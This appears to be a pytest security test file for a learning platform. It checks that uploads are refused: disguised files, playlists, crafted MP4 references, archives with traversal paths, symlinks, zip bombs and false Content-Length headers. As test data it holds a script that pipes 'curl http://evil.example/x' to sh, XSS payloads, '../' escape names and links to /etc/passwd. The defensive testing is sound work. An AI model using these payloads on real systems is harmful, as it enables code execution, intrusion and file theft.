"""Uploads and archives under attack (issue #12, item 1.2): files disguised by their name,
media that is damaged or points elsewhere, archives that climb out, link or explode, and
bodies that are too large or whose Content-Length lies — each refused with a clean 4xx,
nothing stored and nothing outside its place written or read."""

from __future__ import annotations

import io
import json
import os
import socket
import struct
import tarfile
import threading
import time
import urllib.request
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from sqlalchemy import func, select

from lms.catalog import archives, packages
from lms.catalog.models import Course
from lms.core.storage import LocalStorage, get_storage
from lms.media.models import MediaAsset
from tests.catalog.conftest import gx, write_package  # noqa: F401
from tests.conftest import PASSWORD, Factory, bearer, login
from tests.live import live_server
from tests.media.conftest import make_clip
from tests.security.inputs import http_sentinel, problem_of


@pytest.fixture
def media_root(app, tmp_path) -> Iterator[Path]:
    """A media folder of the test's own (the database rolls back; files would not)."""
    previous = app.extensions.get("lms.storage")
    root = tmp_path / "media-root"
    app.extensions["lms.storage"] = LocalStorage(root)
    try:
        yield root
    finally:
        if previous is None:
            app.extensions.pop("lms.storage", None)
        else:
            app.extensions["lms.storage"] = previous


@pytest.fixture
def teacher(make, gx):  # noqa: F811
    return make.user("teacher", gx, email="teacher.uploads@example.org", locale="en")


def _nothing_stored(db_session, root: Path) -> None:
    assert db_session.scalar(select(func.count()).select_from(MediaAsset)) == 0
    stored = [p for p in root.rglob("*") if p.is_file()] if root.exists() else []
    assert stored == []


def _upload(client, data: bytes, name: str, kind: str):
    return client.post(
        "/media/upload",
        data={"file": (io.BytesIO(data), name), "kind": kind, "title": ""},
        content_type="multipart/form-data",
    )


# ---------------------------------------------------------------------------- disguised types

HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>\n"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>alert(2)</script></svg>\n"
)
SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 200


@pytest.mark.parametrize(
    "data, name, kind, message",
    [
        (HTML, "lecture.mp4", "video", "This file is not a video."),
        (SVG, "lecture.mp4", "video", "This file is not a video."),
        (SCRIPT, "lecture.mkv", "video", "This file is not a video."),
        (PNG, "lecture.mp4", "video", "This file is not a video."),
        (HTML, "notes.pdf", "document", "PDF"),
        (SVG, "slides.pdf", "document", "PDF"),
        (b"%PDF-1.7\n" + HTML, "cut.pdf", "document", "damaged or incomplete"),
    ],
    ids=[
        "html-as-mp4",
        "svg-as-mp4",
        "script-as-mkv",
        "png-as-mp4",
        "html-as-pdf",
        "svg-as-pdf",
        "pdf-without-end",
    ],
)
def test_disguised_files_are_refused_by_their_bytes(
    client, teacher, db_session, media_root, data, name, kind, message
):
    login(client, teacher)
    resp = _upload(client, data, name, kind)
    assert resp.status_code == 422
    assert message in resp.text
    assert "<script>alert" not in resp.text  # the refusal never echoes the file
    _nothing_stored(db_session, media_root)


def test_api_upload_of_a_disguised_file_is_a_problem(client, teacher, db_session, media_root):
    resp = client.post(
        "/api/v1/media",
        data={"file": (io.BytesIO(HTML), "lecture.mp4")},
        content_type="multipart/form-data",
        headers=bearer(client, teacher),
    )
    problem_of(resp, 422)
    _nothing_stored(db_session, media_root)


# ---------------------------------------------------------------------------- playlists, refs


@pytest.mark.parametrize(
    "make_body",
    [
        lambda target: f"#EXTM3U\n#EXTINF:6.0,\n{target}/seg.ts\n#EXT-X-ENDLIST\n",
        lambda target: f"\ufeff  \n#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{target}/v.m3u8\n",
        lambda target: f"ffconcat version 1.0\nfile '{target}/a.mp4'\nfile '/etc/passwd'\n",
        lambda target: (
            '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011">'
            f"<BaseURL>{target}/</BaseURL></MPD>"
        ),
    ],
    ids=["hls-media", "hls-master-with-bom", "ffconcat", "dash"],
)
def test_playlists_uploaded_as_video_are_refused_and_fetch_nothing(
    client, teacher, db_session, media_root, make_body
):
    login(client, teacher)
    with http_sentinel() as (url, hits):
        resp = _upload(client, make_body(url).encode(), "lecture.mp4", "video")
        assert resp.status_code == 422 and "Playlists cannot be uploaded." in resp.text
        assert hits == []
    _nothing_stored(db_session, media_root)


_CONTAINERS = {b"moov", b"trak", b"mdia", b"minf", b"dinf"}


def _with_external_dref(data: bytes, location: bytes) -> bytes:
    """The MP4 with every track's data reference pointing at ``location`` (flags 0: 'the
    samples are in another file'), as an attacker would craft it. moov comes after mdat,
    so the sample offsets stay valid while moov grows."""
    out, i = b"", 0
    while i + 8 <= len(data):
        size, kind = struct.unpack(">I4s", data[i : i + 8])
        payload = data[i + 8 : i + size]
        if kind in _CONTAINERS:
            payload = _with_external_dref(payload, location)
        elif kind == b"dref":
            entry = b"url " + struct.pack(">I", 0) + location + b"\x00"
            payload = struct.pack(">II", 0, 1) + struct.pack(">I", 8 + len(entry) - 4) + entry
        out += struct.pack(">I4s", 8 + len(payload), kind) + payload
        i += size
    return out


@pytest.mark.backend("sqlite")
def test_mp4_pointing_at_other_files_never_makes_ffmpeg_open_them(
    client, teacher, db_session, media_root, tmp_path
):
    fifo = tmp_path / "secret-fifo.mp4"
    os.mkfifo(fifo)
    opened = threading.Event()
    stop = threading.Event()

    def watch():  # opening the FIFO's write end succeeds only while someone reads it
        while not stop.is_set():
            try:
                fd = os.open(fifo, os.O_WRONLY | os.O_NONBLOCK)
            except OSError:
                time.sleep(0.002)
                continue
            opened.set()
            os.close(fd)
            return

    threading.Thread(target=watch, daemon=True).start()
    clip = make_clip(tmp_path / "clip.mp4", seconds=2)
    login(client, teacher)
    try:
        with http_sentinel() as (url, hits):
            for location in (str(fifo).encode(), f"{url}/other.mp4".encode()):
                crafted = _with_external_dref(clip.read_bytes(), location)
                assert location in crafted
                resp = _upload(client, crafted, "lecture.mp4", "video")
                assert resp.status_code in (302, 422), resp.status_code
            assert hits == []
    finally:
        stop.set()
    assert not opened.is_set()
    for asset in db_session.scalars(select(MediaAsset)):
        assert asset.status in ("ready", "failed")


@pytest.mark.backend("sqlite")
@pytest.mark.parametrize("name", ["lecture.mkv", "lecture.mp4"])
def test_media_damaged_after_its_header_fails_the_job_with_a_reason(
    client, teacher, db_session, media_root, tmp_path, name
):
    """A file whose header and first seconds are whole passes the upload checks (the
    header promises ten seconds); the rest is noise. The job fails with a reason the
    teacher can read, and nothing is published."""
    clip = make_clip(tmp_path / name, seconds=10, faststart=True)
    data = clip.read_bytes()
    keep = len(data) // 3
    noise = bytes((i * 7919 + 13) % 251 for i in range(len(data) - keep))
    headers = bearer(client, teacher)
    resp = client.post(
        "/api/v1/media",
        data={"file": (io.BytesIO(data[:keep] + noise), name)},
        content_type="multipart/form-data",
        headers=headers,
    )
    assert resp.status_code == 202, resp.text
    asset = db_session.get(MediaAsset, resp.json["id"])
    assert (asset.status, asset.error_code) == ("failed", "corrupt")
    assert asset.output_prefix is None
    assert get_storage().list(f"media/{asset.id}/v") == []
    shown = client.get(f"/api/v1/media/{asset.id}", headers=headers).json
    assert shown["status"] == "failed" and shown["hls_url"] is None
    assert shown["error"].startswith("The file is damaged or incomplete.")


# ---------------------------------------------------------------------------- archives


def _zip(path: Path, entries: dict[str, bytes], links: dict[str, str] | None = None) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in entries.items():
            zf.writestr(name, data)
        for name, target in (links or {}).items():
            info = zipfile.ZipInfo(name)
            info.external_attr = 0o120777 << 16  # a symbolic link
            zf.writestr(info, target)
    return path


def _package_files(tmp_path: Path, code: str = "ARC-101") -> dict[str, bytes]:
    pkg = write_package(tmp_path / "src", code=code)
    return {
        f"{code}/{p.relative_to(pkg)}": p.read_bytes()
        for p in sorted(pkg.rglob("*"))
        if p.is_file()
    }


def _refused(path: Path, words: str) -> None:
    with pytest.raises(packages.PackageError) as err, archives.unpacked([path]) as folders:
        packages.import_packages(folders)
    text = " ".join(str(p) for p in err.value.problems)
    assert words in text, text


def test_a_clean_zip_and_tarball_import(tmp_path, gx, db_session, runner):  # noqa: F811
    files = _package_files(tmp_path)
    archive = _zip(tmp_path / "arc.zip", files)
    result = runner.invoke(args=["lms", "courses", "import", str(archive)])
    assert result.exit_code == 0, result.output
    assert "imported ARC-101" in result.output
    files = _package_files(tmp_path / "b", code="ARC-102")
    tgz = tmp_path / "arc.tar.gz"
    with tarfile.open(tgz, "w:gz") as tf:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    with archives.unpacked([tgz]) as folders:
        [course] = packages.import_packages(folders)
    assert course.code == "ARC-102"


@pytest.mark.parametrize(
    "name, words",
    [
        ("../escaped.txt", "leave the package"),
        ("ARC-101/../../escaped.txt", "leave the package"),
        ("/tmp/escaped.txt", "Absolute paths"),
        ("C:/escaped.txt", "Absolute paths"),
        ("ARC-101\\..\\..\\escaped.txt", "Absolute paths"),
    ],
)
def test_zip_entries_that_climb_out_are_refused(tmp_path, gx, db_session, name, words):  # noqa: F811
    files = _package_files(tmp_path) | {name: b"pwned"}
    _refused(_zip(tmp_path / "evil.zip", files), words)
    assert not (tmp_path / "escaped.txt").exists()
    assert not Path("/tmp/escaped.txt").exists()
    assert db_session.scalar(select(func.count()).select_from(Course)) == 0


def test_zip_symlinks_are_refused(tmp_path, gx, db_session):  # noqa: F811
    files = _package_files(tmp_path)
    del files["ARC-101/lessons/thanks.en.md"]
    archive = _zip(
        tmp_path / "link.zip", files, links={"ARC-101/lessons/thanks.en.md": "/etc/passwd"}
    )
    _refused(archive, "Links are not allowed")


@pytest.mark.parametrize("kind", ["symlink", "hardlink", "fifo", "chardev", "abs-symlink-dir"])
def test_tar_links_and_devices_are_refused(tmp_path, gx, db_session, kind):  # noqa: F811
    archive = tmp_path / "evil.tar"
    with tarfile.open(archive, "w") as tf:
        for name, data in _package_files(tmp_path).items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
        info = tarfile.TarInfo("ARC-101/lessons/evil.en.md")
        if kind == "symlink":
            info.type, info.linkname = tarfile.SYMTYPE, "/etc/passwd"
        elif kind == "hardlink":
            info.type, info.linkname = tarfile.LNKTYPE, "/etc/passwd"
        elif kind == "fifo":
            info.type = tarfile.FIFOTYPE
        elif kind == "chardev":
            info.type, info.devmajor, info.devminor = tarfile.CHRTYPE, 1, 3
        else:
            info.name, info.type, info.linkname = "ARC-101/lessons", tarfile.SYMTYPE, "/tmp"
        tf.addfile(info)
    _refused(archive, "Links are not allowed")


def test_hard_links_in_a_package_folder_are_refused(tmp_path, gx, db_session):  # noqa: F811
    secret = tmp_path / "secret.md"
    secret.write_text("## SECRET-CONTENT\n")
    pkg = write_package(tmp_path / "pkgs", code="HARD-101")
    (pkg / "lessons" / "thanks.en.md").unlink()
    os.link(secret, pkg / "lessons" / "thanks.en.md")
    with pytest.raises(packages.PackageError) as err:
        packages.import_packages([pkg])
    assert "Links are not allowed" in " ".join(str(p) for p in err.value.problems)
    assert db_session.scalar(select(func.count()).select_from(Course)) == 0


def test_zip_bomb_is_refused_before_it_expands(tmp_path, gx, db_session):  # noqa: F811
    big = tmp_path / "bomb.zip"
    with (
        zipfile.ZipFile(big, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf,
        zf.open("ARC-101/lessons/hello.en.md", "w", force_zip64=True) as fh,
    ):
        for _ in range(64):
            fh.write(b"\x00" * (1024 * 1024))
    assert big.stat().st_size < 200_000
    started = time.monotonic()
    _refused(big, "larger than 20 MB")
    ratio = tmp_path / "ratio.zip"
    files = _package_files(tmp_path) | {"ARC-101/lessons/pad.en.md": b"a" * 5_000_000}
    _refused(_zip(ratio, files), "expands far beyond")
    assert time.monotonic() - started < 10


def test_tar_gz_bomb_is_refused_before_it_expands(tmp_path, gx, db_session):  # noqa: F811
    archive = tmp_path / "bomb.tar.gz"
    with tarfile.open(archive, "w:gz") as tf:
        info = tarfile.TarInfo("ARC-101/lessons/hello.en.md")
        info.size = 100 * 1024 * 1024
        tf.addfile(info, io.BytesIO(b"\x00" * info.size))
    assert archive.stat().st_size < 500_000
    _refused(archive, "larger than 20 MB")


def test_too_many_entries_and_junk_archives(tmp_path, gx, db_session):  # noqa: F811
    many = {f"ARC-101/lessons/f{i}.md": b"" for i in range(packages.MAX_FILES + 1)}
    _refused(_zip(tmp_path / "many.zip", many), "more than")
    twice = tmp_path / "twice.zip"
    with pytest.warns(UserWarning, match="Duplicate name"):  # the second would overwrite
        _zip(twice, _package_files(tmp_path))
        with zipfile.ZipFile(twice, "a") as zf:
            zf.writestr("ARC-101/course.yaml", b"code: OTHER\n")
    _refused(twice, "same file twice")
    junk = tmp_path / "junk.zip"
    junk.write_bytes(b"PK\x03\x04" + b"\x00" * 100)
    _refused(junk, "damaged")
    fake = tmp_path / "fake.tar.gz"
    fake.write_bytes(b"\x1f\x8b" + os.urandom(64))
    _refused(fake, "damaged")


# ---------------------------------------------------------------------------- request bodies


def test_a_body_over_max_content_length_is_a_413_and_stores_nothing(
    app, client, teacher, db_session, media_root
):
    headers = bearer(client, teacher)
    app.config["MAX_CONTENT_LENGTH"] = 256 * 1024
    try:
        resp = client.post(
            "/api/v1/media",
            data={"file": (io.BytesIO(b"\x00" * (512 * 1024)), "big.mp4")},
            content_type="multipart/form-data",
            headers=headers,
        )
        problem_of(resp, 413)
        login(client, teacher)
        page = _upload(client, b"\x00" * (512 * 1024), "big.mp4", "video")
        assert page.status_code == 413 and page.mimetype == "text/html"
    finally:
        app.config["MAX_CONTENT_LENGTH"] = 64 * 1024 * 1024
    _nothing_stored(db_session, media_root)


def _raw(base: str, request: bytes, *, half_close: bool = False) -> bytes:
    host, port = base.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=20) as sock:
        sock.sendall(request)
        if half_close:
            sock.shutdown(socket.SHUT_WR)
        chunks = []
        while True:
            try:
                data = sock.recv(65536)
            except (TimeoutError, ConnectionResetError):
                break
            if not data:
                break
            chunks.append(data)
            if b"\r\n\r\n" in b"".join(chunks) and half_close is False:
                head, _, rest = b"".join(chunks).partition(b"\r\n\r\n")
                length = [
                    int(line.split(b":")[1])
                    for line in head.split(b"\r\n")
                    if line.lower().startswith(b"content-length:")
                ]
                if length and len(rest) >= length[0]:
                    break
    return b"".join(chunks)


def _status(reply: bytes) -> int:
    assert reply.startswith(b"HTTP/1."), reply[:200]
    return int(reply.split(b" ", 2)[1])


@pytest.mark.backend("sqlite")
def test_lying_content_length_over_a_real_socket(tmp_path, app):
    media = tmp_path / "live-media"

    def seed(live_app) -> None:
        inst = Factory().institution(slug="live-gx")
        Factory().user("teacher", inst, email="live.teacher@example.org")

    with live_server(
        tmp_path / "live", extra_env={"LMS_MEDIA_ROOT": str(media)}, seed=seed, demo=False
    ) as base:
        body = f'{{"email": "live.teacher@example.org", "password": "{PASSWORD}"}}'.encode()

        def post(path: str, length: int | str, payload: bytes, **kw) -> int:
            head = (
                f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                f"Content-Length: {length}\r\nConnection: close\r\n\r\n"
            ).encode()
            return _status(_raw(base, head + payload, **kw))

        honest = _raw(
            base,
            b"POST /api/v1/auth/token HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
            + f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n".encode()
            + body,
        )
        assert _status(honest) == 200  # the honest request works
        token = json.loads(honest.partition(b"\r\n\r\n")[2])["access_token"]
        # shorter than the body: the server reads a truncated JSON document
        assert post("/api/v1/auth/token", 20, body) == 400
        # longer than the body, then the client stops sending: a clean 400, not a hang/500
        assert post("/api/v1/auth/token", len(body) + 500, body, half_close=True) == 400
        # more than MAX_CONTENT_LENGTH announced: refused before reading
        assert post("/api/v1/media", 10 * 1024**3, b"x" * 1000) in (401, 413)
        for nonsense in ("-5", "abc", "1e3"):  # not a length at all: a clean 4xx
            assert 400 <= post("/api/v1/auth/token", nonsense, body) < 500
        # a multipart upload that stops half-way stores nothing
        boundary = b"XX"
        part = (
            b'--XX\r\nContent-Disposition: form-data; name="file"; filename="a.mp4"\r\n'
            b"Content-Type: video/mp4\r\n\r\n" + b"\x00" * 5000
        )
        head = (
            b"POST /api/v1/media HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; "
            b"boundary=" + boundary + b"\r\nContent-Length: 900000\r\nConnection: close\r\n"
            b"Authorization: Bearer " + token.encode() + b"\r\n\r\n"
        )
        assert _status(_raw(base, head + part, half_close=True)) == 400
        # a resumable chunk announced as 1,000 bytes that brings 300 is discarded whole
        auth = {"Authorization": f"Bearer {token}"}
        start = urllib.request.Request(
            base + "/api/v1/media/uploads",
            data=json.dumps({"kind": "video", "filename": "a.mp4", "size": 5000}).encode(),
            headers={**auth, "Content-Type": "application/json"},
        )
        with urllib.request.urlopen(start, timeout=10) as resp:
            upload_id = json.loads(resp.read())["id"]
        chunk = (
            f"PUT /api/v1/media/uploads/{upload_id}/chunk?offset=0 HTTP/1.1\r\nHost: x\r\n"
            "Content-Type: application/octet-stream\r\nContent-Length: 1000\r\n"
            f"Authorization: Bearer {token}\r\nConnection: close\r\n\r\n"
        ).encode()
        assert 400 <= _status(_raw(base, chunk + b"\x00" * 300, half_close=True)) < 500
        state = urllib.request.Request(base + f"/api/v1/media/uploads/{upload_id}", headers=auth)
        with urllib.request.urlopen(state, timeout=10) as resp:
            assert json.loads(resp.read())["offset"] == 0
        with urllib.request.urlopen(base + "/healthz", timeout=10) as ok:
            assert ok.status == 200  # the server is still serving
    stored = [p for p in media.rglob("*") if p.is_file()] if media.exists() else []
    assert [p for p in stored if "uploads" not in p.parts] == []
